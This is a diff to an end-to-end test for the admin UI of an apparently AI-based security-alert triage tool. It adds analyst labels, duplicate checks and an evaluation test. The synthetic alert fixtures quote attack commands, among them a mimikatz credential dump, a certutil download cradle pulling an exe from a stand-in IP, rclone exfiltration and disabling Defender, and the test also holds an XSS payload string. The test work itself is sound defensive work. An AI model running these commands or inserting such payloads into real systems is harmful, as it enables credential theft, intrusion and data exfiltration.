@@ -19,18 +19,21 @@ const ALERTS = [
   'Alert: nightly backup job ran robocopy to the NAS as scheduled, signed binary',
 ];
 // More of the everyday queue, so a dataset has enough examples to train on.
-const MORE = [
-  ['mimikatz sekurlsa::logonpasswords run on', 'credential dumping'],
-  ['certutil -urlcache -split -f http://198.51.100.7/a.exe on', 'download cradle'],
-  ['WMI remote process creation wmic /node from', 'lateral movement'],
-  ['rclone copy of the finance share to mega.example from', 'exfiltration'],
-  ['new Run key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run updater.exe on', 'persistence'],
-  ['Windows Defender real-time protection disabled by Set-MpPreference on', 'defense evasion'],
-  ['net group "domain admins" /domain and nltest /dclist run on', 'discovery'],
-  ['encrypted files with ransom note README_RESTORE.txt appearing on', 'ransomware'],
-  ['beacon every 60 s with jitter to 203.0.113.50:443 from', 'command and control'],
-  ['user reported a phishing mail with a QR code to a fake login page on', 'phishing'],
-].map(([what, why], i) => `Alert (${why}): ${what} host SRV-${String(i + 20).padStart(3, '0')}, first seen today`);
+// Analysts label these from their chat app (feedback), so they reach the
+// queue labelled and an evaluation has something to score against.
+const LABELLED = [
+  ['mimikatz sekurlsa::logonpasswords run on', 'credential dumping', 'credential_access', 'critical'],
+  ['certutil -urlcache -split -f http://198.51.100.7/a.exe on', 'download cradle', 'execution', 'high'],
+  ['WMI remote process creation wmic /node from', 'lateral movement', 'lateral_movement', 'high'],
+  ['rclone copy of the finance share to mega.example from', 'exfiltration', 'exfiltration', 'critical'],
+  ['new Run key HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run updater.exe on', 'persistence', 'persistence', 'medium'],
+  ['Windows Defender real-time protection disabled by Set-MpPreference on', 'defense evasion', 'defense_evasion', 'high'],
+  ['net group "domain admins" /domain and nltest /dclist run on', 'discovery', 'discovery', 'medium'],
+  ['encrypted files with ransom note README_RESTORE.txt appearing on', 'ransomware', 'ransomware', 'critical'],
+  ['beacon every 60 s with jitter to 203.0.113.50:443 from', 'command and control', 'command_and_control', 'high'],
+  ['user reported a phishing mail with a QR code to a fake login page on', 'phishing', 'phishing', 'medium'],
+].map(([what, why, threat, severity], i) => ({ text: `Alert (${why}): ${what} host SRV-${String(i + 20).padStart(3, '0')}, first seen today`, threat, severity }));
+const MORE = LABELLED.map((l) => l.text);
 const XSS = 'Suspicious mail body: <img src=x onerror=window.__xss=1> and <script>window.__xss=1</script> end';
 
 const TOTAL = ALERTS.length + MORE.length + 3;
@@ -50,7 +53,15 @@ describe('admin UI', { timeout: 240000 }, () => {
     // anything: the dataset report must name both reasons.
     await chat(stack.url, stack.keys.client, ALERTS[7], { user: 'analyst-9' });
     await chat(stack.url, stack.keys.client, 'ok thanks', { user: 'analyst-9' });
-    for (const [i, text] of MORE.entries()) await chat(stack.url, stack.keys.client, text, { user: `analyst-${i % 3}` });
+    for (const [i, l] of LABELLED.entries()) {
+      const sent = await chat(stack.url, stack.keys.client, l.text, { user: `analyst-${i % 3}` });
+      const fb = await fetch(`${stack.url}/v1/feedback`, {
+        method: 'POST',
+        headers: { Authorization: `Bearer ${stack.keys.analyst}`, 'Content-Type': 'application/json' },
+        body: JSON.stringify({ inference_id: sent.inference, threat_type: l.threat, severity: l.severity }),
+      });
+      assert.equal(fb.status, 201, await fb.text());
+    }
     for (const [i, text] of [...ALERTS.entries()].reverse()) await chat(stack.url, stack.keys.client, text, { user: `analyst-${i % 3}` });
     // Capture is off the hot path: wait until every conversation is stored.
     for (let i = 0; i < 100; i++) {
@@ -187,6 +198,9 @@ describe('admin UI', { timeout: 240000 }, () => {
     await page.goto(`${stack.url}/admin/#/review?status=any&threat_type=malware`);
     await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 1);
     const id = await page.locator('.queue-item').first().getAttribute('data-id');
+    await page.goto(`${stack.url}/admin/#/review?status=any&signal=duplicate:true`);
+    await page.waitForFunction(() => document.querySelectorAll('.queue-item').length === 1);
+    await page.locator('.conversation .signals', { hasText: 'duplicate' }).waitFor();
     await page.goto(`${stack.url}/admin/#/conversations/${id}`);
     await page.locator('.turn .msg-answer').waitFor();
     await page.locator('.turn-meta', { hasText: 'base' }).waitFor();
@@ -247,6 +261,44 @@ describe('admin UI', { timeout: 240000 }, () => {
     await page.goto(`${stack.url}/admin/#/jobs`);
     await page.locator('td', { hasText: job.id }).waitFor();
     await shot(page, '13-fine-tuning');
+  });
+
+  test('evaluation: run one on the dataset, read the confusion matrices, compare two versions, chart the metrics', async (t) => {
+    if (!job || (await api('/evaluations')).status === 404) { t.skip('this build has no evaluations route (or no fine-tuned version) yet'); return; }
+    const ft = job.registered_version;
+    await page.goto(`${stack.url}/admin/#/performance?alias=triage`);
+    await page.locator('.card', { hasText: 'Run an evaluation' }).locator('select[name=dataset_id]').waitFor();
+    await page.selectOption('select[name=dataset_id]', dataset.id);
+    await page.selectOption('select[name=split]', 'all');
+    await page.click('.card:has-text("Run an evaluation") button[type=submit]');
+    await page.waitForURL(/#\/evaluations\/eval_/);
+    await page.locator('.page-head .badge', { hasText: 'succeeded' }).waitFor({ timeout: 60000 });
+    const id = decodeURIComponent(page.url().split('#/evaluations/')[1]);
+    const ev = (await api(`/evaluations/${id}`)).body;
+    assert.equal(ev.status, 'succeeded');
+    assert.deepEqual(Object.keys(ev.results).sort(), ['base', ft].sort());
+    for (const v of ['base', ft]) {
+      await page.locator('.card', { hasText: `Confusion matrix · ${v}` }).locator('table.confusion').waitFor();
+      const shown = await page.locator('.card', { hasText: 'Results on' }).locator('tr', { hasText: /^accuracy/ }).textContent();
+      assert.ok(shown.includes(`${(ev.results[v].accuracy * 100).toFixed(1)}`), `accuracy of ${v} shown: ${shown}`);
+    }
+    const diag = ev.results.base.confusion.matrix.reduce((n, row, i) => n + (row[i] ?? 0), 0);
+    const cells = await page.locator('.card', { hasText: 'Confusion matrix · base' }).locator('td.diag').allTextContents();
+    assert.equal(cells.reduce((n, x) => n + Number(x), 0), diag);
+    await page.locator('.card', { hasText: 'Side by side' }).locator('select[name=b]').selectOption(ft);
+    await page.locator('.card', { hasText: 'Side by side' }).locator('th', { hasText: `${ft} F1` }).waitFor();
+    await shot(page, '14-evaluation');
+
+    await page.goto(`${stack.url}/admin/#/performance?alias=triage`);
+    await page.locator('figure.chart-figure svg polyline').first().waitFor();
+    const perf = (await api('/performance?alias=triage')).body.data;
+    assert.ok(perf.length >= 2);
+    assert.ok(await page.locator('figure.chart-figure').count() >= 1);
+    await shot(page, '14-performance-charts');
+    await page.goto(`${stack.url}/admin/#/overview`);
+    await page.locator('.card', { hasText: 'Success metrics' }).locator('td', { hasText: 'accuracy' }).first().waitFor();
+    assert.equal(await page.getByText('No evaluation yet.').count(), 0);
+    await shot(page, '02-overview-with-evaluation');
   });
 
   test('models: register, traffic with If-Match and a 409 in words, promote, roll back, history', async () => {
